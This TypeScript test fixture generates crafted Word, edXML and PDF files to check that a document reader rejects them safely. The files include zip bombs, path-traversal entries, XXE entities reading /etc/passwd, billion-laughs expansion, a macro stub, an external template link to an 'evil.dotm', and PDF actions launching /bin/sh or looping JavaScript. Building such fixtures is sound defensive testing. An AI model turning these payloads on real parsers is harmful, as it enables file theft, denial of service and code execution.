import { type Entry, zipOf } from './package.ts'

const main = 'word/document.xml'
const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const relations = (extra = '') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>${extra}</Relationships>`
const said = 'Kính gửi: UBND các xã.'
const paragraph = `<w:p><w:r><w:t>${said}</w:t></w:r></w:p>`
const document = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`

const entry = (name: string, content: string | Buffer): Entry => ({ name, content: Buffer.from(content) })

function docx(body: string | Buffer, ...more: Entry[]): Buffer {
  return zipOf([entry('[Content_Types].xml', types), entry('_rels/.rels', relations()), entry(main, body), ...more])
}

/** A PDF whose parts are as given; offsets are right, so that only the parts themselves are odd. */
function pdf(objects: string[], trailer = '/Root 1 0 R'): Buffer {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, i) => {
    const at = Buffer.byteLength(text, 'latin1')
    text += `${i + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const xref = Buffer.byteLength(text, 'latin1')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1} ${trailer}>>\nstartxref\n${xref}\n%%EOF`
  return Buffer.from(text, 'latin1')
}
const stream = (dictionary: string, content: string) => `<<${dictionary}/Length ${content.length}>>stream\n${content}\nendstream`
const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>'
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const words = stream('', 'BT /F 12 Tf 10 100 Td (Kinh gui) Tj ET')
const whole = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', page, words, font]
const withCatalog = (catalog: string, ...more: string[]) => pdf([`<</Type/Catalog/Pages 2 0 R ${catalog}>>`, ...whole.slice(1), ...more])

/** Papers that an attacker would send, and whether anything of them may be read; a refusal is a sentence. */
export const crafted: { name: string; bytes: () => Buffer; file: string; read: boolean }[] = [
  { name: 'an honest .docx', file: 'a.docx', read: true, bytes: () => docx(document(paragraph)) },
  { name: 'a bomb of 150 MB', file: 'a.docx', read: false, bytes: () => docx(Buffer.alloc(150 * 1024 * 1024, 'a')) },
  {
    name: 'a bomb whose directory claims ten bytes',
    file: 'a.docx',
    read: false,
    bytes: () => zipOf([entry('_rels/.rels', relations()), { ...entry(main, Buffer.alloc(150 * 1024 * 1024, 'a')), claimed: 10 }]),
  },
  {
    name: 'forty parts of 5 MB each',
    file: 'a.docx',
    read: false,
    bytes: () =>
      docx(document(paragraph), ...Array.from({ length: 40 }, (_, i) => entry(`word/media/${i}.png`, Buffer.alloc(5 * 1024 * 1024)))),
  },
  {
    name: 'a package in a package',
    file: 'a.docx',
    read: true,
    bytes: () => docx(document(paragraph), entry('word/embeddings/b.docx', docx(document(paragraph)))),
  },
  {
    name: 'a hundred thousand entries',
    file: 'a.docx',
    read: false,
    bytes: () =>
      zipOf(
        [entry(main, document(paragraph)), ...Array.from({ length: 100_000 }, (_, i) => ({ ...entry(`word/${i}`, 'x'), stored: true }))],
        65_535,
      ),
  },
  {
    name: 'a directory that claims fewer entries',
    file: 'a.docx',
    read: false,
    bytes: () => zipOf([entry(main, document(paragraph)), entry('_rels/.rels', relations())], 1),
  },
  { name: 'a directory that claims more entries', file: 'a.docx', read: false, bytes: () => zipOf([entry(main, document(paragraph))], 7) },
  {
    name: 'a path out of the package',
    file: 'a.docx',
    read: false,
    bytes: () => docx(document(paragraph), entry('../../../tmp/evil', 'x')),
  },
  { name: 'an absolute path', file: 'a.docx', read: false, bytes: () => docx(document(paragraph), entry('/etc/cron.d/evil', 'x')) },
  { name: 'a path with backslashes', file: 'a.docx', read: false, bytes: () => docx(document(paragraph), entry('..\\..\\evil', 'x')) },
  { name: 'a macro', file: 'a.docx', read: false, bytes: () => docx(document(paragraph), entry('word/vbaProject.bin', 'Sub AutoOpen()')) },
  {
    name: 'a program inside',
    file: 'a.docx',
    read: false,
    bytes: () => docx(document(paragraph), entry('word/embeddings/setup.exe', 'MZ')),
  },
  {
    name: 'an entity that names a file of the server',
    file: 'a.docx',
    read: false,
    bytes: () => docx(document('<w:p><w:r><w:t>&e;</w:t></w:r></w:p>', '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
  },
  {
    name: 'a billion laughs',
    file: 'a.docx',
    read: false,
    bytes: () =>
      docx(
        document(
          '<w:p><w:r><w:t>&j;</w:t></w:r></w:p>',
          `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
            .split('')
            .map((one, i) => `<!ENTITY ${one} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
            .join('')}]>`,
        ),
      ),
  },
  {
    name: 'an entity in UTF-16',
    file: 'a.docx',
    read: false,
    bytes: () =>
      docx(
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            document('<w:p><w:r><w:t>&e;</w:t></w:r></w:p>', '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(
              '"1.0"',
              '"1.0" encoding="utf-16"',
            ),
            'utf16le',
          ),
        ]),
      ),
  },
  {
    name: 'a relation to an address outside',
    file: 'a.docx',
    read: true,
    bytes: () =>
      docx(
        document(paragraph),
        entry(
          'word/_rels/document.xml.rels',
          '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm"/></Relationships>',
        ),
      ),
  },
  { name: 'a hundred thousand open elements', file: 'a.docx', read: false, bytes: () => docx(document('<w:p>'.repeat(100_000))) },
  {
    name: 'elements nested fifty thousand deep',
    file: 'a.docx',
    read: false,
    bytes: () => docx(document('<w:p>'.repeat(50_000) + '</w:p>'.repeat(50_000))),
  },
  {
    name: 'one word of five million letters',
    file: 'a.docx',
    read: true,
    bytes: () => docx(document(`<w:p><w:r><w:t>${'a'.repeat(5_000_000)}</w:t></w:r></w:p>`)),
  },
  { name: 'no main part', file: 'a.docx', read: false, bytes: () => zipOf([entry('a.txt', main)]) },
  { name: 'half of a package', file: 'a.docx', read: false, bytes: () => docx(document(paragraph)).subarray(0, 300) },
  { name: 'a spreadsheet by another name', file: 'a.docx', read: false, bytes: () => zipOf([entry('xl/workbook.xml', '<workbook/>')]) },
  { name: 'a program by another name', file: 'a.docx', read: false, bytes: () => Buffer.from('MZ\x90\x00 not a paper') },
  { name: 'zeros by another name', file: 'a.txt', read: false, bytes: () => Buffer.alloc(5000) },
  {
    name: 'a package for exchange that names a file of the server',
    file: 'a.edxml',
    read: false,
    bytes: () =>
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&e;</edXML>',
      ),
  },
  {
    name: 'a package of a hundred thousand nested elements',
    file: 'a.edxml',
    read: false,
    bytes: () => Buffer.from(`<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">${'<a>'.repeat(100_000)}`),
  },
  { name: 'an honest PDF', file: 'a.pdf', read: true, bytes: () => pdf(whole) },
  {
    name: 'a PDF that runs a script',
    file: 'a.pdf',
    read: true,
    bytes: () => withCatalog('/OpenAction<</S/JavaScript/JS(while\\(true\\){})>>'),
  },
  { name: 'a PDF that starts a program', file: 'a.pdf', read: true, bytes: () => withCatalog('/OpenAction<</S/Launch/F(/bin/sh)>>') },
  {
    name: 'a page that is its own parent',
    file: 'a.pdf',
    read: false,
    bytes: () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
  },
  {
    name: 'a page tree that claims two thousand million pages',
    file: 'a.pdf',
    read: true,
    bytes: () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 2000000000>>', ...whole.slice(2)]),
  },
  {
    name: 'a stream of five million operators',
    file: 'a.pdf',
    read: false,
    bytes: () => pdf([...whole.slice(0, 3), stream('', 'q Q '.repeat(2_500_000)), font]),
  },
  {
    name: 'a form that draws itself',
    file: 'a.pdf',
    read: false,
    bytes: () =>
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
        stream('', '/X Do'),
        stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>', '/X Do'),
      ]),
  },
  {
    name: 'arrays nested a hundred thousand deep',
    file: 'a.pdf',
    read: false,
    bytes: () => pdf([...whole.slice(0, 3), stream('', '['.repeat(100_000)), font]),
  },
  { name: 'a PDF cut in half', file: 'a.pdf', read: false, bytes: () => pdf(whole).subarray(0, 200) },
  { name: 'a PDF of its first five bytes', file: 'a.pdf', read: false, bytes: () => Buffer.from('%PDF-') },
]

/** Honest papers that mutants are made from. */
export const seeds = (): { file: string; bytes: Buffer }[] => [
  {
    file: 'a.docx',
    bytes: docx(document(Array.from({ length: 40 }, (_, i) => `<w:p><w:r><w:t>${i}. ${said}</w:t></w:r></w:p>`).join(''))),
  },
  {
    file: 'a.pdf',
    bytes: pdf([
      ...whole.slice(0, 3),
      stream('', Array.from({ length: 40 }, (_, i) => `BT /F 9 Tf 10 ${190 - i * 4} Td (${i}. Kinh gui) Tj ET`).join('\n')),
      font,
    ]),
  },
  {
    file: 'a.txt',
    bytes: Buffer.from(
      Array.from({ length: 60 }, (_, i) => `${i}. ${said} Báo cáo trước ngày 20/12/2026 theo Công văn số 12-CV/HU ngày 01/02/2026.`).join(
        '\n',
      ),
    ),
  },
]
